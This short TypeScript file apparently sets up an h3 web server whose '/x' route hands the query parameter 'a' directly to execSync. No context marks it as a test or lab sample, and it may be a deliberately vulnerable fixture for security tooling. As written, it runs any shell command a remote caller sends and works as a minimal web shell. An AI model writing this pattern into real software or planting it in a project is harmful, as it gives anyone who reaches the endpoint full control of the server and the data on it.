import { execSync } from "node:child_process";
import { createApp, eventHandler, getQuery } from 'h3';
const app = createApp();
app.use('/x', eventHandler((event) => {
  execSync(getQuery(event).a as string);
}));
